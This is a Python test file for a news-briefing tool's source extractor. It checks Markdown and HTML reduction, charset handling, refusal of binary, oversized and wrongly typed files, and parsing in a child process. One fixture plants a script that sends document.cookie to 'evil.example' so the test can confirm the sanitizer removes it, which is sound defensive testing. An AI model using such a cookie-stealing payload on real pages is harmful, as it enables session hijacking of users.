"""A source's bytes become its text: Markdown kept, HTML reduced, hostile files refused."""

from __future__ import annotations

import codecs
import subprocess
import sys
from pathlib import Path

import pytest

from briefings.sources import worker
from briefings.sources.errors import SourceRefused
from briefings.sources.extract import extract, media_type_of
from briefings.sources.limits import MAX_SOURCE_CHARS
from briefings.sources.worker import extract_off_loop
from tests.briefings.source_article import HTML, MARKDOWN, TITLE


def refused(raw: bytes, media_type: str, charset: str | None = None) -> SourceRefused:
    with pytest.raises(SourceRefused) as error:
        extract(raw, media_type, charset=charset)
    return error.value


def test_markdown_is_kept_as_written_with_its_title() -> None:
    got = extract(MARKDOWN.encode(), "text/markdown")
    assert got.title == TITLE
    assert got.text == MARKDOWN.strip()


def test_html_keeps_the_article_and_its_headings_and_drops_scripts_styles_and_menus() -> None:
    got = extract(HTML.encode(), "text/html")
    assert got.title == TITLE
    assert "## The corridor" in got.text and "## The gas bargain" in got.text
    assert "“The sea is open for business,” Olena Marchenko said in Odesa." in got.text
    for hostile in ("secretScript", "alert", "injected", "color: red", "steal", "Log in"):
        assert hostile not in got.text
    assert "Subscribe" not in got.text  # the footer is not the article


def test_raw_html_scripts_in_a_markdown_file_do_not_survive() -> None:
    raw = MARKDOWN + '\n<script>fetch("https://evil.example/?c=" + document.cookie)</script>\n'
    raw += "<style>p { display: none }</style><script>unclosed("
    got = extract(raw.encode(), "text/markdown")
    assert "evil" not in got.text and "display" not in got.text and "unclosed" not in got.text


def test_text_that_is_not_utf8_is_refused_unless_html_declares_its_charset() -> None:
    latin = MARKDOWN.replace("Erdoğan", "Erdogan").replace("“", '"').replace("”", '"')
    latin += "\nCafé society.\n"
    assert refused(latin.encode("latin-1"), "text/markdown").reason == "encoding"
    page = HTML.replace("Erdoğan", "Erdogan").replace('charset="utf-8"', 'charset="latin-1"')
    page = page.replace("“", '"').replace("”", '"').replace("Kremlin.", "Kremlin in a café.")
    assert "Kremlin in a café." in extract(page.encode("latin-1"), "text/html").text


def test_a_declared_charset_wins_and_an_unknown_one_is_refused() -> None:
    text = MARKDOWN.replace("Erdoğan", "Erdogan") + "\nKöln.\n"
    assert "Köln." in extract(text.encode("cp1252"), "text/plain", charset="windows-1252").text
    error = refused(MARKDOWN.encode(), "text/plain", charset="x-no-such-charset")
    assert error.reason == "encoding" and error.detail["charset"] == "x-no-such-charset"


def test_a_byte_order_mark_is_honoured_and_dropped() -> None:
    got = extract(codecs.BOM_UTF8 + MARKDOWN.encode(), "text/markdown")
    assert got.text.startswith(f"# {TITLE}")
    utf16 = extract(MARKDOWN.encode("utf-16"), "text/markdown")
    assert utf16.text == MARKDOWN.strip()


def test_binary_files_and_empty_or_huge_texts_are_refused() -> None:
    assert refused(b"\x89PNG\r\n\x1a\n" + b"\0" * 400, "text/plain").reason == "encoding"
    assert refused(b"<html><body><p>Hi.</p></body></html>", "text/html").reason == "too-short"
    assert refused(b"Too short.", "text/plain").reason == "too-short"
    huge = ("word " * (MAX_SOURCE_CHARS // 4)).encode()
    assert refused(huge, "text/plain").reason == "too-long"


def test_control_characters_and_windows_newlines_are_cleaned() -> None:
    raw = MARKDOWN.replace("\n", "\r\n").replace("Ankara reopened", "Ankara\u200b re\x07opened")
    got = extract(raw.encode(), "text/markdown")
    assert "\r" not in got.text and "Ankara reopened the grain corridor" in got.text


@pytest.mark.parametrize(
    ("name", "kind"),
    [("a.md", "text/markdown"), ("A.HTML", "text/html"), ("notes.txt", "text/plain")],
)
def test_attachments_are_typed_by_their_name(name: str, kind: str) -> None:
    assert media_type_of(name) == kind


@pytest.mark.parametrize("name", ["article.pdf", "article.docx", "article", "x.md.exe"])
def test_other_files_are_refused_by_name(name: str) -> None:
    with pytest.raises(SourceRefused) as error:
        media_type_of(name)
    assert error.value.reason == "file-type"


async def test_html_is_extracted_in_a_child_process_and_its_refusals_come_back() -> None:
    got = await extract_off_loop(HTML.encode(), "text/html", None)
    assert got == extract(HTML.encode(), "text/html")
    with pytest.raises(SourceRefused) as too_short:  # refused in the child, raised here
        await extract_off_loop(b"<html><body><p>Hi.</p></body></html>", "text/html", None)
    assert too_short.value.reason == "too-short" and too_short.value.detail == {"limit": 200}
    page = HTML.replace('charset="utf-8"', 'charset="windows-1252"').replace("Erdoğan", "E")
    decoded = await extract_off_loop(page.encode("cp1252"), "text/html", "windows-1252")
    assert "“The sea is open for business,”" in decoded.text


def test_a_child_that_dies_or_says_nothing_is_a_refusal() -> None:
    for out, code in ((b"", -9), (b"not json", 0), (b"{}", 0)):
        with pytest.raises(SourceRefused) as refused:
            worker._answer(out, code)
        assert refused.value.reason == "unreadable"


CHILD_ONLY = """
import asyncio, sys
from briefings.sources.worker import extract_off_loop
from tests.briefings.source_article import HTML
got = asyncio.run(extract_off_loop(HTML.encode(), "text/html", None))
assert "Olena Marchenko" in got.text
print(sorted(m for m in ("trafilatura", "lxml", "lxml.etree") if m in sys.modules))
"""


def test_html_is_never_parsed_in_the_bots_own_process() -> None:
    # A fresh interpreter: this one has trafilatura loaded by the tests above.
    done = subprocess.run(
        [sys.executable, "-c", CHILD_ONLY],
        capture_output=True,
        text=True,
        check=True,
        cwd=Path(__file__).resolve().parents[2],
    )
    assert done.stdout.strip() == "[]"  # the page was reduced in the child process only
